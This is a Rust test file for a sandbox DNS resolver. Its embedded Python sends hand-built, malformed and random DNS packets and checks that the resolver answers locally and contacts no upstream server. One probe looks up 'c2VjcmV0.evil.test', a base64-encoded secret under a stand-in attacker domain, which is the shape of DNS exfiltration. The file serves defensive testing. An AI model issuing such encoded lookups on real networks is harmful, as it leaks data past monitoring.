//! The resolver of a sandbox: whatever it is asked, in whatever form, it answers by itself and goes on.

use crate::bed::Bed;

/// Asks by hand, and prints for each question the code of the answer and how many addresses are in it.
const ASKING: &str = r#"
import os, socket, struct
server = next(line.split()[1] for line in open('/etc/resolv.conf') if line.startswith('nameserver'))
def question(name, kind, flags=0x0100, questions=1, tail=b'', number=7, cls=1):
    labels = b''.join(bytes([len(part)]) + part for part in name.split(b'.') if part)
    return struct.pack('>6H', number, flags, questions, 0, 0, 1 if tail else 0) + labels + b'\0' + struct.pack('>2H', kind, cls) + tail
def told(answer):
    if answer is None: return 'silence'
    number, flags, _, answers = struct.unpack('>4H', answer[:8])
    return '%d/%d' % (flags & 15, answers) if number == 7 else 'another'
def udp(message, patience=10):
    with socket.socket(socket.AF_INET6 if ':' in server else socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(patience)
        s.connect((server, 53))
        s.send(message)
        try: return s.recv(65535)
        except socket.timeout: return None
def receive(s, count):
    data = b''
    while len(data) < count:
        piece = s.recv(count - len(data))
        if not piece: return None
        data += piece
    return data
def tcp(messages, piecewise=False):
    answers = []
    with socket.create_connection((server, 53), 30) as s:
        for message in messages:
            framed = struct.pack('>H', len(message)) + message
            for piece in ([framed[i:i + 1] for i in range(len(framed))] if piecewise else [framed]): s.sendall(piece)
            head = receive(s, 2)
            answers.append(receive(s, struct.unpack('>H', head)[0]) if head else None)
    return answers
good, bad = b'plain.example.test', b'c2VjcmV0.evil.test'
edns = b'\0' + struct.pack('>HHIH', 41, 4096, 0, 0)
for kind in (1, 28, 2, 5, 12, 15, 16, 33, 64, 65, 255):
    print('kind', kind, told(udp(question(good, kind))), told(udp(question(bad, kind))))
print('case', told(udp(question(b'PlAiN.eXample.TEST', 1))), b'PlAiN' in udp(question(b'PlAiN.eXample.TEST', 1)))
print('edns', told(udp(question(good, 1, tail=edns))))
print('tcp', [told(answer) for answer in tcp([question(good, 1), question(bad, 1)])])
print('bytewise', [told(answer) for answer in tcp([question(good, 28)], True)])
longest = b'.'.join([b'a' * 63] * 3 + [b'b' * 61])
print('longest', told(udp(question(longest, 1))))
print('longer', told(udp(question(longest + b'.ccc', 1))))
print('two', told(udp(question(good, 1, questions=2))))
print('update', told(udp(question(good, 1, flags=0x2800))))
print('chaos', told(udp(question(b'version.bind', 16, cls=3))))
pointer = struct.pack('>6H', 7, 0x0100, 1, 0, 0, 0) + b'\xc0\x0c' + struct.pack('>2H', 1, 1)
print('pointer', told(udp(pointer)))
print('answer', told(udp(question(good, 1, flags=0x8100), 1)))
print('short', told(udp(b'\0\7', 1)), told(tcp([b'\0'])[0]))
for _ in range(200):
    with socket.socket(socket.AF_INET6 if ':' in server else socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect((server, 53))
        s.send(os.urandom(1 + os.urandom(1)[0]))
print('after', told(udp(question(good, 1))), [told(answer) for answer in tcp([question(good, 1)])])
print('root', told(udp(question(b'', 2))), told(udp(question(b'localhost', 1))), told(udp(question(b'a b.example.test', 1))))
"#;

#[test]
fn req_e34_i10_whatever_the_resolver_is_asked_it_asks_nobody_and_goes_on() {
    Bed::each(|bed| {
        let asked = bed.run(&[], &["/usr/bin/python3", "-I", "-c", ASKING]).run().expect_status(0).stdout();
        let lines: Vec<&str> = asked.lines().collect();
        let expected = [
            "kind 1 0/1 3/0",
            "kind 28 0/1 3/0",
            "kind 2 0/0 3/0",
            "kind 5 0/0 3/0",
            "kind 12 0/0 3/0",
            "kind 15 0/0 3/0",
            "kind 16 0/0 3/0",
            "kind 33 0/0 3/0",
            "kind 64 0/0 3/0",
            "kind 65 0/0 3/0",
            "kind 255 0/0 3/0",
            "case 0/1 True",
            "edns 0/1",
            "tcp ['0/1', '3/0']",
            "bytewise ['0/1']",
            "longest 3/0",
            "longer 1/0",
            "two 1/0",
            "update 4/0",
            "chaos 4/0",
            "pointer 1/0",
            "answer silence",
            "short silence silence",
            "after 0/1 ['0/1']",
            "root 3/0 0/1 3/0",
        ];
        assert_eq!(lines, expected);
        let record = bed.record();
        assert_eq!(record.matches("\"c2vjcmv0.evil.test\"").count(), 1, "a refused name is on record once");
        assert!(bed.upstream.connections().is_empty());
    });
}
